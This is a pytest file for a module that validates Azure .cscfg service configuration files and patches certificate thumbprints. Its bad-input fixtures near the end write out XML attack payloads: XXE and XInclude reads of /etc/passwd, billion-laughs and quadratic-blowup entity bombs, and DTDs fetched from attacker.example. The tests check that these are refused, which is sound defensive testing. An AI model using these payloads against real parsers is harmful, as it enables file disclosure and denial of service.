"""Table-driven tests for shared.domain.cscfg: validate a .cscfg and patch thumbprints in place."""

from __future__ import annotations

import re
from collections.abc import Callable, Mapping

import pytest

from shared.domain.cscfg import (
    MAX_CSCFG_CHARS,
    CertificateEntry,
    ServiceConfiguration,
    SettingEntry,
    parse,
    rewrite,
    settings_mentioning,
)
from shared.domain.errors import InvalidInput

NS = "http://schemas.microsoft.com/ServiceHosting/2008/10/ServiceConfiguration"
OLD1 = "AA11BB22CC33DD44EE55FF66AA77BB88CC99DD00"
NEW1 = "0123456789ABCDEF0123456789ABCDEF01234567"
OLD2 = "B2C3D4E5F60718293A4B5C6D7E8F901122334455"
NEW2 = "FEDCBA9876543210FEDCBA9876543210FEDCBA98"
KEEP = "9999888877776666555544443333222211110000"

# Verbatim from the .cscfg docs sample (azure-facts.md §3).
FACTS_SAMPLE = f"""<ServiceConfiguration serviceName="Contoso" osFamily="7" osVersion="*" \
schemaVersion="2015-04.2.6"
  xmlns="{NS}">
  <Role name="WebRole1"><Instances count="2"/>
    <ConfigurationSettings><Setting name="Env" value="prod"/></ConfigurationSettings>
    <Certificates><Certificate name="SslCert" thumbprint="{OLD1}" \
thumbprintAlgorithm="sha1"/></Certificates>
  </Role>
  <NetworkConfiguration><VirtualNetworkSite name="vnet1"/>
    <AddressAssignments><InstanceAddress roleName="WebRole1"><Subnets><Subnet name="default"/>\
</Subnets></InstanceAddress></AddressAssignments>
  </NetworkConfiguration>
</ServiceConfiguration>
"""


def one_cert(thumbprint: str, extra: str = 'thumbprintAlgorithm="sha1"') -> str:
    """A minimal valid document with one role holding one certificate."""
    return (
        f'<ServiceConfiguration serviceName="Contoso" xmlns="{NS}">\n'
        f'  <Role name="WebRole1">\n'
        f'    <Instances count="1"/>\n'
        f"    <Certificates>\n"
        f'      <Certificate name="SslCert" thumbprint="{thumbprint}" {extra}/>\n'
        f"    </Certificates>\n"
        f"  </Role>\n"
        f"</ServiceConfiguration>\n"
    )


SEVERAL_ROLES_IN = f"""<?xml version="1.0" encoding="utf-8"?>
<ServiceConfiguration serviceName="Contoso" osFamily="7" osVersion="*" xmlns="{NS}">
  <Role name="WebRole1">
    <Instances count="2" />
    <Certificates>
      <Certificate name="SslCert" thumbprint="{OLD1}" thumbprintAlgorithm="sha1" />
      <Certificate name="ClientCert" thumbprint="{KEEP}" thumbprintAlgorithm="sha1" />
    </Certificates>
  </Role>
  <Role name="WorkerRole1">
    <Instances count="3" />
    <Certificates>
      <Certificate name="SslCert" thumbprint="{OLD1}" thumbprintAlgorithm="sha1" />
      <Certificate name="Signing" thumbprint="{OLD2}" thumbprintAlgorithm="sha1" />
    </Certificates>
  </Role>
  <NetworkConfiguration>
    <VirtualNetworkSite name="vnet1" />
  </NetworkConfiguration>
</ServiceConfiguration>
"""
SEVERAL_ROLES_OUT = f"""<?xml version="1.0" encoding="utf-8"?>
<ServiceConfiguration serviceName="Contoso" osFamily="7" osVersion="*" xmlns="{NS}">
  <Role name="WebRole1">
    <Instances count="2" />
    <Certificates>
      <Certificate name="SslCert" thumbprint="{NEW1}" thumbprintAlgorithm="sha1" />
      <Certificate name="ClientCert" thumbprint="{KEEP}" thumbprintAlgorithm="sha1" />
    </Certificates>
  </Role>
  <Role name="WorkerRole1">
    <Instances count="3" />
    <Certificates>
      <Certificate name="SslCert" thumbprint="{NEW1}" thumbprintAlgorithm="sha1" />
      <Certificate name="Signing" thumbprint="{OLD2}" thumbprintAlgorithm="sha1" />
    </Certificates>
  </Role>
  <NetworkConfiguration>
    <VirtualNetworkSite name="vnet1" />
  </NetworkConfiguration>
</ServiceConfiguration>
"""

PREFIXED_IN = f"""<sc:ServiceConfiguration serviceName="Contoso" xmlns:sc="{NS}">
  <sc:Role name="WebRole1">
    <sc:Instances count="1"/>
    <sc:Certificates>
      <sc:Certificate name="SslCert" thumbprint="{OLD1}" thumbprintAlgorithm="sha1"/>
    </sc:Certificates>
  </sc:Role>
</sc:ServiceConfiguration>"""
PREFIXED_OUT = PREFIXED_IN.replace(OLD1, NEW1)

# An element named Certificate in another namespace is not ours, whatever it holds.
FOREIGN_NS_IN = f"""<ServiceConfiguration serviceName="Contoso" xmlns="{NS}">
  <Role name="WebRole1">
    <Certificates>
      <Certificate name="SslCert" thumbprint="{OLD1}"/>
      <x:Certificate xmlns:x="urn:other" name="Lookalike" thumbprint="{OLD1}"/>
    </Certificates>
  </Role>
</ServiceConfiguration>"""
FOREIGN_NS_OUT = f"""<ServiceConfiguration serviceName="Contoso" xmlns="{NS}">
  <Role name="WebRole1">
    <Certificates>
      <Certificate name="SslCert" thumbprint="{NEW1}"/>
      <x:Certificate xmlns:x="urn:other" name="Lookalike" thumbprint="{OLD1}"/>
    </Certificates>
  </Role>
</ServiceConfiguration>"""

MULTILINE_IN = f"""<ServiceConfiguration serviceName="Contoso" xmlns="{NS}">
  <Role name="WebRole1">
    <Certificates>
      <Certificate
          name="Ssl>Cert/>"
          thumbprintAlgorithm = "SHA1"
\t\tthumbprint =\t"{OLD1}"
      />
    </Certificates>
  </Role>
</ServiceConfiguration>"""
MULTILINE_OUT = f"""<ServiceConfiguration serviceName="Contoso" xmlns="{NS}">
  <Role name="WebRole1">
    <Certificates>
      <Certificate
          name="Ssl>Cert/>"
          thumbprintAlgorithm = "SHA1"
\t\tthumbprint =\t"{NEW1}"
      />
    </Certificates>
  </Role>
</ServiceConfiguration>"""

SINGLE_QUOTED_IN = f"""<ServiceConfiguration serviceName='Contoso' xmlns='{NS}'>
  <Role name='WebRole1'>
    <Certificates>
      <Certificate name='SslCert' thumbprint='{OLD1}' thumbprintAlgorithm='sha1'/>
      <Certificate name='Quote"d' thumbprint='{KEEP}'/>
    </Certificates>
  </Role>
</ServiceConfiguration>"""
SINGLE_QUOTED_OUT = f"""<ServiceConfiguration serviceName='Contoso' xmlns='{NS}'>
  <Role name='WebRole1'>
    <Certificates>
      <Certificate name='SslCert' thumbprint='{NEW1}' thumbprintAlgorithm='sha1'/>
      <Certificate name='Quote"d' thumbprint='{KEEP}'/>
    </Certificates>
  </Role>
</ServiceConfiguration>"""

COMMENTS_IN = f"""<?xml version="1.0" encoding="utf-8"?>
<!-- previous: <Certificate name="SslCert" thumbprint="{OLD1}"/> -->
<?rotator thumbprint="{OLD1}"?>
<ServiceConfiguration serviceName="Contoso" xmlns="{NS}">
  <Role name="WebRole1">
    <!-- <Role name="Fake"><Certificates><Certificate name="X" thumbprint="{OLD1}"/> -->
    <ConfigurationSettings><![CDATA[<Certificate name="Y" thumbprint="{OLD1}"/>]]>\
</ConfigurationSettings>
    <Certificates>
      <!-- was: <Certificate name="SslCert" thumbprint="{OLD1}" thumbprintAlgorithm="sha1"/> -->
      <Certificate name="SslCert" thumbprint="{OLD1}" thumbprintAlgorithm="sha1"/>
    </Certificates>
  </Role>
</ServiceConfiguration>
<!-- {OLD1} -->
"""
COMMENTS_OUT = COMMENTS_IN.replace(
    f'<Certificate name="SslCert" thumbprint="{OLD1}" thumbprintAlgorithm="sha1"/>\n    </',
    f'<Certificate name="SslCert" thumbprint="{NEW1}" thumbprintAlgorithm="sha1"/>\n    </',
)
assert COMMENTS_OUT.count(NEW1) == 1  # the fixture itself changes exactly one place


def with_settings(cert_thumbprint: str, settings: tuple[str, str, str]) -> str:
    """A document whose role holds three settings (values given) and one certificate."""
    a, b, c = settings
    return (
        f'<ServiceConfiguration serviceName="Contoso" xmlns="{NS}">\n'
        f'  <Role name="WebRole1">\n'
        f"    <ConfigurationSettings>\n"
        f'      <Setting name="SslThumbprint" value="{a}" />\n'
        f"      <Setting name='Pinned' value='{b}' />\n"
        f'      <Setting name="Env" value="{c}" />\n'
        f"    </ConfigurationSettings>\n"
        f"    <Certificates>\n"
        f'      <Certificate name="SslCert" thumbprint="{cert_thumbprint}"/>\n'
        f"    </Certificates>\n"
        f"  </Role>\n"
        f"</ServiceConfiguration>\n"
    )


SETTINGS_IN = with_settings(OLD1, (OLD1, f"primary={OLD1.lower()};backup={OLD2}", "prod"))

NON_ASCII_IN = f"""<ServiceConfiguration serviceName="Café" xmlns="{NS}">
  <!-- ☕ 𝄞 é -->
  <Role name="Rôle☕">
    <ConfigurationSettings><Setting name="Motto" value="naïve 𝄞 {OLD1}"/></ConfigurationSettings>
    <Certificates><Certificate name="Zertifikat-ü" thumbprint="{OLD1}"/></Certificates>
  </Role>
</ServiceConfiguration>"""

# (id, input, mapping, rewrite_settings, expected output)
CASES: list[tuple[str, str, Mapping[str, str], bool, str]] = [
    ("default_namespace", one_cert(OLD1), {OLD1: NEW1}, False, one_cert(NEW1)),
    ("docs_sample", FACTS_SAMPLE, {OLD1: NEW1}, False, FACTS_SAMPLE.replace(OLD1, NEW1)),
    ("prefixed_namespace", PREFIXED_IN, {OLD1: NEW1}, False, PREFIXED_OUT),
    ("several_roles_only_matches", SEVERAL_ROLES_IN, {OLD1: NEW1}, False, SEVERAL_ROLES_OUT),
    ("foreign_namespace_lookalike", FOREIGN_NS_IN, {OLD1: NEW1}, False, FOREIGN_NS_OUT),
    ("multi_line_element", MULTILINE_IN, {OLD1: NEW1}, False, MULTILINE_OUT),
    ("single_quotes", SINGLE_QUOTED_IN, {OLD1: NEW1}, False, SINGLE_QUOTED_OUT),
    (
        "lowercase_in_file_and_mapping",
        one_cert(OLD1.lower()),
        {OLD1.lower(): NEW1.lower()},
        False,
        one_cert(NEW1),
    ),
    (
        "crlf",
        one_cert(OLD1).replace("\n", "\r\n"),
        {OLD1: NEW1},
        False,
        one_cert(NEW1).replace("\n", "\r\n"),
    ),
    (
        "bom_and_utf8_declaration",
        '\ufeff<?xml version="1.0" encoding="utf-8"?>\r\n' + one_cert(OLD1),
        {OLD1: NEW1},
        False,
        '\ufeff<?xml version="1.0" encoding="utf-8"?>\r\n' + one_cert(NEW1),
    ),
    (
        # The string is already decoded; a stale declaration must not stop us.
        "utf16_declaration_on_a_str",
        '<?xml version="1.0" encoding="utf-16"?>\n' + one_cert(OLD1),
        {OLD1: NEW1},
        False,
        '<?xml version="1.0" encoding="utf-16"?>\n' + one_cert(NEW1),
    ),
    ("comments_cdata_pi_untouched", COMMENTS_IN, {OLD1: NEW1}, False, COMMENTS_OUT),
    (
        "non_ascii_text_before_the_certificate",
        NON_ASCII_IN,
        {OLD1: NEW1},
        False,
        NON_ASCII_IN.replace(f'thumbprint="{OLD1}"', f'thumbprint="{NEW1}"'),
    ),
    (
        # &#65; is "A": the value reads as OLD1, so the whole value is replaced.
        "character_reference_in_thumbprint",
        one_cert("&#65;" + OLD1[1:]),
        {OLD1: NEW1},
        False,
        one_cert(NEW1),
    ),
    (
        "settings_untouched_by_default",
        SETTINGS_IN,
        {OLD1: NEW1, OLD2: NEW2},
        False,
        with_settings(NEW1, (OLD1, f"primary={OLD1.lower()};backup={OLD2}", "prod")),
    ),
    (
        "settings_rewritten_on_request",
        SETTINGS_IN,
        {OLD1: NEW1, OLD2: NEW2},
        True,
        with_settings(NEW1, (NEW1, f"primary={NEW1};backup={NEW2}", "prod")),
    ),
    (
        "settings_rewritten_non_ascii",
        NON_ASCII_IN,
        {OLD1: NEW1},
        True,
        NON_ASCII_IN.replace(OLD1, NEW1),
    ),
    (
        "swap_does_not_chain",
        SEVERAL_ROLES_IN,
        {OLD1: OLD2, OLD2: OLD1},
        False,
        SEVERAL_ROLES_IN.replace(OLD1, "@").replace(OLD2, OLD1).replace("@", OLD2),
    ),
    ("no_match_identical", SEVERAL_ROLES_IN, {NEW2: NEW1}, True, SEVERAL_ROLES_IN),
    ("empty_mapping_identical", SETTINGS_IN, {}, True, SETTINGS_IN),
]


def read_back(
    before: ServiceConfiguration, mapping: Mapping[str, str], rewrite_settings: bool
) -> ServiceConfiguration:
    """What parse(output) must say: matching thumbprints (and settings) carry the new value."""
    upper = {old.upper(): new.upper() for old, new in mapping.items()}
    certificates = tuple(
        CertificateEntry(c.role, c.name, upper.get(c.thumbprint.upper(), c.thumbprint), c.algorithm)
        for c in before.certificates
    )
    settings = before.settings
    if rewrite_settings and upper:
        pattern = re.compile("|".join(upper), re.IGNORECASE)
        settings = tuple(
            SettingEntry(s.role, s.name, pattern.sub(lambda m: upper[m.group().upper()], s.value))
            for s in before.settings
        )
    return ServiceConfiguration(before.service_name, before.roles, certificates, settings)


@pytest.mark.parametrize(
    ("cscfg", "mapping", "rewrite_settings", "expected"),
    [pytest.param(*case[1:], id=case[0]) for case in CASES],
)
def test_rewrite(
    cscfg: str, mapping: Mapping[str, str], rewrite_settings: bool, expected: str
) -> None:
    output = rewrite(cscfg, mapping, rewrite_settings=rewrite_settings)

    assert output == expected
    assert parse(output) == read_back(parse(cscfg), mapping, rewrite_settings)


def test_parse_reads_the_docs_sample() -> None:
    assert parse(FACTS_SAMPLE) == ServiceConfiguration(
        service_name="Contoso",
        roles=("WebRole1",),
        certificates=(CertificateEntry("WebRole1", "SslCert", OLD1, "sha1"),),
        settings=(SettingEntry("WebRole1", "Env", "prod"),),
    )


def test_parse_keeps_case_and_absent_algorithm() -> None:
    config = parse(
        SEVERAL_ROLES_IN.replace(OLD2, OLD2.lower()).replace(' thumbprintAlgorithm="sha1"', "")
    )

    assert config.roles == ("WebRole1", "WorkerRole1")
    assert [(c.role, c.name, c.thumbprint, c.algorithm) for c in config.certificates] == [
        ("WebRole1", "SslCert", OLD1, ""),
        ("WebRole1", "ClientCert", KEEP, ""),
        ("WorkerRole1", "SslCert", OLD1, ""),
        ("WorkerRole1", "Signing", OLD2.lower(), ""),
    ]


def test_xinclude_is_not_processed() -> None:
    # ElementTree has no XInclude unless asked (ElementInclude): the element is inert.
    document = one_cert(OLD1).replace(
        "<Instances",
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" '
        'parse="text"/><Instances',
    )

    assert [c.thumbprint for c in parse(document).certificates] == [OLD1]
    assert "root:" not in rewrite(document, {OLD1: NEW1})


def test_deep_nesting_within_the_size_limit_is_harmless() -> None:
    depth = 50_000  # 350 kB of <x>…</x>: linear work (it was quadratic: 9 s here)
    document = one_cert(OLD1).replace("<Instances", "<x>" * depth + "</x>" * depth + "<Instances")

    assert rewrite(document, {OLD1: NEW1}) == document.replace(OLD1, NEW1)


def test_parse_accepts_exactly_the_size_limit() -> None:
    cscfg = one_cert(OLD1)
    cscfg += " " * (MAX_CSCFG_CHARS - len(cscfg))

    assert len(parse(cscfg).certificates) == 1


BILLION_LAUGHS = f"""<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<ServiceConfiguration serviceName="&lol4;" xmlns="{NS}"/>"""
XXE = f"""<?xml version="1.0"?>
<!DOCTYPE ServiceConfiguration [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<ServiceConfiguration serviceName="&xxe;" xmlns="{NS}"/>"""
EXTERNAL_DTD = f"""<!DOCTYPE ServiceConfiguration SYSTEM "http://attacker.example/x.dtd">
<ServiceConfiguration serviceName="Contoso" xmlns="{NS}"/>"""
PARAMETER_ENTITY = f"""<?xml version="1.0"?>
<!DOCTYPE ServiceConfiguration [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd">%remote;]>
<ServiceConfiguration serviceName="Contoso" xmlns="{NS}"/>"""
QUADRATIC_BLOWUP = f"""<?xml version="1.0"?>
<!DOCTYPE ServiceConfiguration [<!ENTITY a "{"x" * 50_000}">]>
<ServiceConfiguration serviceName="{"&a;" * 5_000}" xmlns="{NS}"/>"""
PUBLIC_DTD = f"""<!DOCTYPE ServiceConfiguration PUBLIC "-//Attacker//DTD x//EN"
  "http://attacker.example/x.dtd">
<ServiceConfiguration serviceName="Contoso" xmlns="{NS}"/>"""
# A DOCTYPE with nothing in it declares no entity, but is refused all the same.
EMPTY_DOCTYPE = f"""<!DOCTYPE ServiceConfiguration>
<ServiceConfiguration serviceName="Contoso" xmlns="{NS}"/>"""
WHERE = "role 'WebRole1' certificate 'SslCert'"
NOT_40_HEX = "is not exactly 40 hexadecimal digits"

# (id, input, expected substring of the InvalidInput message)
BAD_INPUTS: list[tuple[str, str, str]] = [
    ("xxe_external_entity", XXE, "DOCTYPE/DTD"),
    ("external_dtd", EXTERNAL_DTD, "DOCTYPE/DTD"),
    ("billion_laughs", BILLION_LAUGHS, "DOCTYPE/DTD"),
    ("parameter_entity", PARAMETER_ENTITY, "DOCTYPE/DTD"),
    ("quadratic_blowup", QUADRATIC_BLOWUP, "DOCTYPE/DTD"),
    ("public_dtd", PUBLIC_DTD, "DOCTYPE/DTD"),
    ("empty_doctype", EMPTY_DOCTYPE, "DOCTYPE/DTD"),
    ("dtd_after_bom", "\ufeff" + XXE, "DOCTYPE/DTD"),
    (
        "oversized_in_characters_not_bytes",
        one_cert(OLD1).replace("Contoso", "\u00e9" * MAX_CSCFG_CHARS),
        f"the limit of {MAX_CSCFG_CHARS}",
    ),
    ("undeclared_entity", one_cert(OLD1, 'thumbprintAlgorithm="&xxe;"'), "undefined entity"),
    ("oversized", one_cert(OLD1) + " " * MAX_CSCFG_CHARS, f"the limit of {MAX_CSCFG_CHARS}"),
    ("empty", "", "malformed XML"),
    ("not_xml", "this is not xml", "malformed XML"),
    ("json", '{"configuration": "<ServiceConfiguration/>"}', "malformed XML"),
    ("truncated", one_cert(OLD1)[:-30], "malformed XML"),
    ("unbound_prefix", PREFIXED_IN.replace(f' xmlns:sc="{NS}"', ""), "unbound prefix"),
    ("lone_surrogate", one_cert(OLD1).replace("Contoso", "Con\ud800toso"), "not valid Unicode"),
    (
        "wrong_root",
        f'<ServiceDefinition name="Contoso" xmlns="{NS}"/>',
        "root element must be ServiceConfiguration",
    ),
    (
        "wrong_namespace",
        one_cert(OLD1).replace(NS, "urn:not-the-service-configuration-namespace"),
        "root element must be ServiceConfiguration",
    ),
    (
        "no_namespace",
        one_cert(OLD1).replace(f' xmlns="{NS}"', ""),
        "root element must be ServiceConfiguration",
    ),
    (
        "role_without_name",
        one_cert(OLD1).replace(' name="WebRole1"', ""),
        "Role element has no name",
    ),
    (
        "certificate_without_name",
        one_cert(OLD1).replace(' name="SslCert"', ""),
        "role 'WebRole1': a Certificate element has no name",
    ),
    (
        "certificate_without_thumbprint",
        one_cert(OLD1).replace(f' thumbprint="{OLD1}"', ""),
        f"{WHERE}: the thumbprint attribute is missing",
    ),
    ("thumbprint_39", one_cert(OLD1[:39]), f"{WHERE}: thumbprint '{OLD1[:39]}' {NOT_40_HEX}"),
    ("thumbprint_41", one_cert(OLD1 + "A"), f"{WHERE}: thumbprint '{OLD1}A' {NOT_40_HEX}"),
    ("thumbprint_non_hex", one_cert("G" + OLD1[1:]), f"thumbprint 'G{OLD1[1:]}' {NOT_40_HEX}"),
    ("thumbprint_spaced", one_cert(OLD1[:20] + " " + OLD1[20:]), NOT_40_HEX),
    ("thumbprint_unicode_digit", one_cert(OLD1[:39] + "\u0660"), NOT_40_HEX),
    ("thumbprint_empty", one_cert(""), f"{WHERE}: thumbprint '' {NOT_40_HEX}"),
    (
        "thumbprint_algorithm_sha256",
        one_cert(OLD1, 'thumbprintAlgorithm="sha256"'),
        f"{WHERE}: thumbprintAlgorithm 'sha256' is not supported (only sha1)",
    ),
    (
        "thumbprint_algorithm_empty",
        one_cert(OLD1, 'thumbprintAlgorithm=""'),
        "thumbprintAlgorithm '' is not supported",
    ),
]

ENTRY_POINTS: list[tuple[str, Callable[[str], object]]] = [
    ("parse", parse),
    ("rewrite", lambda cscfg: rewrite(cscfg, {OLD1: NEW1}, rewrite_settings=True)),
    ("settings_mentioning", lambda cscfg: settings_mentioning(cscfg, [OLD1])),
]


@pytest.mark.parametrize("call", [pytest.param(call, id=name) for name, call in ENTRY_POINTS])
@pytest.mark.parametrize(
    ("cscfg", "message"), [pytest.param(*case[1:], id=case[0]) for case in BAD_INPUTS]
)
def test_bad_input_is_refused(cscfg: str, message: str, call: Callable[[str], object]) -> None:
    with pytest.raises(InvalidInput) as raised:
        call(cscfg)

    assert raised.value.field == "configuration"
    assert message in raised.value.detail


# (id, mapping, expected substring) — the old -> new map itself is validated too.
BAD_MAPPINGS: list[tuple[str, Mapping[str, str], str]] = [
    ("old_not_hex", {"not-a-thumbprint": NEW1}, f"'not-a-thumbprint' {NOT_40_HEX}"),
    ("new_too_short", {OLD1: NEW1[:39]}, f"'{NEW1[:39]}' {NOT_40_HEX}"),
    ("new_empty", {OLD1: ""}, f"'' {NOT_40_HEX}"),
    (
        "same_old_twice",
        {OLD1: NEW1, OLD1.lower(): NEW2},
        f"{OLD1} is mapped to two different thumbprints",
    ),
]


@pytest.mark.parametrize(
    ("mapping", "message"), [pytest.param(*case[1:], id=case[0]) for case in BAD_MAPPINGS]
)
def test_bad_mapping_is_refused(mapping: Mapping[str, str], message: str) -> None:
    with pytest.raises(InvalidInput) as raised:
        rewrite(one_cert(OLD1), mapping)

    assert raised.value.field == "thumbprints"
    assert message in raised.value.detail


def test_same_old_twice_with_the_same_new_is_fine() -> None:
    assert rewrite(one_cert(OLD1), {OLD1: NEW1, OLD1.lower(): NEW1.lower()}) == one_cert(NEW1)


def test_self_check_refuses_a_setting_it_cannot_patch_in_place() -> None:
    # The value reads as OLD1 but is spelled with a character reference, so no span of
    # the raw text equals OLD1: rewriting settings cannot be done without reformatting.
    cscfg = with_settings(OLD1, ("&#65;" + OLD1[1:], "x", "y"))

    assert rewrite(cscfg, {OLD1: NEW1}) == with_settings(NEW1, ("&#65;" + OLD1[1:], "x", "y"))
    with pytest.raises(InvalidInput, match="does not read back as intended"):
        rewrite(cscfg, {OLD1: NEW1}, rewrite_settings=True)


# (id, thumbprints asked about, names of the settings expected back)
MENTIONING: list[tuple[str, list[str], list[str]]] = [
    ("exact_and_embedded", [OLD1], ["SslThumbprint", "Pinned"]),
    ("case_insensitive_query", [OLD2.lower()], ["Pinned"]),
    ("several", [NEW2, OLD2], ["Pinned"]),
    ("none", [KEEP], []),
    ("nothing_asked", [], []),
]


@pytest.mark.parametrize(
    ("thumbprints", "names"), [pytest.param(*case[1:], id=case[0]) for case in MENTIONING]
)
def test_settings_mentioning(thumbprints: list[str], names: list[str]) -> None:
    found = settings_mentioning(SETTINGS_IN, thumbprints)

    assert [s.name for s in found] == names
    assert all(s.role == "WebRole1" for s in found)


def test_settings_mentioning_refuses_a_bad_thumbprint() -> None:
    with pytest.raises(InvalidInput) as raised:
        settings_mentioning(SETTINGS_IN, [""])

    assert raised.value.field == "thumbprints"
